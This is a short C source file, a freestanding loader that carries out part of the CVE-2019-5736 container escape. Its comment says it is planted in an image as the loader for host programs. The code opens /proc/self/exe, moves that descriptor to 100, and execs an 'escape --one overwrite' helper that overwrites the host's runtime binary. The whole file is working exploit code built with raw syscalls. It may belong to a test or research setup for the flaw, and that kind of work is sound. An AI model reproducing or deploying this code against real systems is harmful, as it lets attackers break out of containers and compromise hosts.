/* Lies in an image as the loader of the host's programs: whoever starts such a program there, as /proc/self/exe for one, starts this, and
 * /proc/self/exe is the host's file. It takes that as descriptor 100 and becomes `escape --one overwrite`, which writes as soon as the file is not
 * executed any more: the attack of CVE-2019-5736. Without libc: as a loader it finds nothing that libc's start counts on. */
#include <fcntl.h>
#include <stddef.h>
#include <sys/syscall.h>

static long call(long n, long a, long b, long c)
{
#if defined(__x86_64__)
	long result;

	__asm__ volatile("syscall" : "=a"(result) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
	return result;
#else
	register long x8 __asm__("x8") = n, x0 __asm__("x0") = a, x1 __asm__("x1") = b, x2 __asm__("x2") = c;

	__asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
	return x0;
#endif
}

void _start(void);
void _start(void)
{
	static const char *const argv[] = { "escape", "--one", "overwrite", NULL };
	long fd = call(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH);

	call(SYS_dup3, fd, 100, 0);
	call(SYS_execve, (long)"/bin/escape", (long)argv, 0);
	call(SYS_exit_group, 3, 0, 0);
}
